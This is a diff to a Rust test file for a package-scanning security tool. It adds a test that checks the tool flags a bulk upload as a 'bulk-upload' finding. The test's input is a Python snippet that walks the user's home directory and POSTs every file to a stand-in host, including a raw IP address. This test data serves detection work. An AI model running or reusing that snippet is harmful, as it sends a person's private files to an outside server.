@@ -4,7 +4,7 @@
 
 use std::path::{Path, PathBuf};
 
-use revitpy_scan::report::{CompatLevel, RiskLevel};
+use revitpy_scan::report::{CompatLevel, RiskLevel, Severity};
 use revitpy_scan::{Entry, ManifestFacts, scan};
 
 fn examples() -> PathBuf {
@@ -160,4 +160,20 @@ fn decoded_payloads_are_read_and_show_in_the_report() {
         "{:#?}",
         report.findings
     );
+}
+
+#[test]
+fn walked_files_sent_out_are_a_bulk_upload() {
+    let upload = |url: &str| {
+        let src = format!(
+            "import os, requests\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for f in files:\n        with open(os.path.join(root, f), 'rb') as fh:\n            requests.post('{url}', files={{'f': fh}})\n"
+        );
+        scan(&ManifestFacts::default(), &[Entry { path: "sync.py", bytes: src.as_bytes() }])
+    };
+    let company = upload("https://backup.example.com/upload");
+    let f = company.findings.iter().find(|f| f.rule == "bulk-upload").expect("reported");
+    assert_eq!(f.severity, Severity::Medium);
+    let raw_ip = upload("http://203.0.113.50/u");
+    let f = raw_ip.findings.iter().find(|f| f.rule == "bulk-upload").expect("reported");
+    assert_eq!(f.severity, Severity::High);
 }
